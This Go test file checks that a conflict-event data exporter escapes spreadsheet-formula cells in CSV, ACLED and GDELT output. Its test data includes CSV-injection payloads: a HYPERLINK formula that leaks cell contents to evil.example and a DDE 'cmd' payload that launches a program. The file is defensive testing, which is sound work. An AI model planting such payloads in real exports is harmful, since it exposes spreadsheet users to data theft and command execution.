package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"sitrep"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		// Hostile text cells get a quote in front.
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1,1)", "'@SUM(1,1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-Inf", "'-Inf"},
		{"-0x1p-2", "'-0x1p-2"},
		{"-1e", "'-1e"},
		{"-.", "'-."},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		// Numbers stay numbers.
		{"-10", "-10"},
		{"-33.9000", "-33.9000"},
		{"+1.5", "+1.5"},
		{"-1.5e3", "-1.5e3"},
		{"-2E-4", "-2E-4"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"0", "0"},
		// Ordinary and empty text is left alone.
		{"", ""},
		{"Popular Mobilization Forces", "Popular Mobilization Forces"},
		{"https://example.org/a", "https://example.org/a"},
		{"2021-07-26", "2021-07-26"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// hostile is a cell a spreadsheet would run; the export must hold it with
// a quote in front.
const hostile = `=HYPERLINK("http://evil.example/","x")`

func hostileRecord() sitrep.EventRecord {
	lat, lon, killed := -33.9, -18.4, 1
	return sitrep.EventRecord{
		ID: "h1", Date: "2021-07-26", CAMEO: "195", Root: "19", QuadClass: 4, Goldstein: -10,
		ACLEDType: "Battles", ACLEDSubtype: "Armed clash", Modality: sitrep.Asserted,
		Source: hostile, Target: "@SUM(1,1)", TargetCode: "IRQMIL",
		Place: "+cmd|' /C calc'!A0", Country: "ZA", Admin1: "-2+3", Lat: &lat, Lon: &lon,
		Killed: &killed, Text: "\t=1+1", Doc: "d1", URL: "-1+1", Outlet: "\r=1",
		Published: "2021-07-27", Mentions: 1, Articles: 1, Sources: 1,
	}
}

func TestRecordWritersNeutralizeFormulas(t *testing.T) {
	tests := []struct {
		format string
		want   map[string]string // column: cell as read back
	}{
		{"csv", map[string]string{
			"source": "'" + hostile, "target": "'@SUM(1,1)", "place": "'+cmd|' /C calc'!A0", "admin1": "'-2+3",
			"url": "'-1+1", "outlet": "'\r=1", "text": "'\t=1+1",
			"goldstein": "-10", "lat": "-33.9000", "lon": "-18.4000", "killed": "1",
		}},
		{"acled", map[string]string{
			"actor1": "'" + hostile, "actor2": "'@SUM(1,1)", "location": "'+cmd|' /C calc'!A0", "admin1": "'-2+3",
			"source": "'\r=1", "notes": "'=1+1",
			"latitude": "-33.9000", "longitude": "-18.4000", "fatalities": "1",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := NewRecordWriter(tt.format, &buf)
			if err != nil {
				t.Fatal(err)
			}
			r := hostileRecord()
			if err := w.Write(&r); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			checkCells(t, buf.Bytes(), tt.want)
		})
	}
}

// TestGDELTNeutralizesFormulas: the GDELT tables hold no cell that a
// spreadsheet would run, and no tab or line break inside a cell.
func TestGDELTNeutralizesFormulas(t *testing.T) {
	r := hostileRecord()
	for _, tt := range []struct {
		format string
		cols   []struct{ name, typ string }
		want   map[string]string
	}{
		{FormatGDELT, codebookEvents, map[string]string{
			"Actor1Name": "'" + strings.ToUpper(hostile), "Actor2Name": "'@SUM(1,1)",
			"ActionGeo_FullName": "'+cmd|' /C calc'!A0, -2+3, South Africa", "SOURCEURL": "'-1+1",
			"GoldsteinScale": "-10.0", "ActionGeo_Lat": "-33.9000", "ActionGeo_Long": "-18.4000",
		}},
		{FormatGDELTMentions, codebookMentions, map[string]string{"MentionIdentifier": "'-1+1", "MentionSourceName": " =1"}},
	} {
		var buf bytes.Buffer
		w, err := NewRecordWriter(tt.format, &buf)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(&r); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		row := loadGDELT(t, buf.Bytes(), tt.cols)[0]
		for col, want := range tt.want {
			if row[col] != want {
				t.Errorf("%s %s = %q, want %q", tt.format, col, row[col], want)
			}
		}
		for col, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
				t.Errorf("%s %s = %q begins as a formula", tt.format, col, c)
			}
		}
	}
}

// checkCells reads out as CSV (a header and one row) and compares the
// named cells; no cell of the row may begin as a formula unless it is a
// number.
func checkCells(t *testing.T, out []byte, want map[string]string) {
	t.Helper()
	table, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, out)
	}
	if len(table) != 2 {
		t.Fatalf("%d rows, want a header and one row:\n%s", len(table), out)
	}
	col := map[string]int{}
	for i, h := range table[0] {
		col[h] = i
	}
	for name, w := range want {
		i, ok := col[name]
		if !ok {
			t.Errorf("no column %s", name)
			continue
		}
		if got := table[1][i]; got != w {
			t.Errorf("%s = %q, want %q", name, got, w)
		}
	}
	for i, c := range table[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
			t.Errorf("%s = %q begins as a formula", table[0][i], c)
		}
	}
}
